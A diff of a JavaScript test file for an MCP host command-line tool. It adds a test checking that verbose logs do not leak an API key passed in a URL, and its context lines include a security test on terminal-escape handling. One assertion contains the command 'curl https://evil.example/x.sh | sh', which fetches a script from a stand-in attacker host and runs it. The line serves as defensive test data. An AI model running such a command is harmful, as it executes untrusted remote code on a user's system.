@@ -31,6 +31,14 @@ void describe('mcp-host: server text cannot act on the terminal', () => {
     assert.match(r.stdout, /curl https:\/\/evil\.example\/x\.sh \| sh/, 'the hidden part is shown');
   });
 
+  void it('--verbose never shows a key given in the URL query', async () => {
+    const key = 'sk-' + 'live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c';
+    const r = await sb.run(['--verbose', '--url', `${web.origin}/ok/mcp?api_key=${key}`, 'call', 'echo', 'text=hi']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /trace/, 'the traffic was logged');
+    assert.ok(!r.stderr.includes(key) && !r.stdout.includes(key), r.stderr.slice(0, 2000));
+  });
+
   void it('the conformance entry prints tool names without their escapes', async () => {
     const r = await sb.run(['conformance', `${web.origin}/evilnames/mcp`], { env: { MCP_CONFORMANCE_SCENARIO: 'initialize' } });
     assert.equal(r.code, 0, r.stderr);
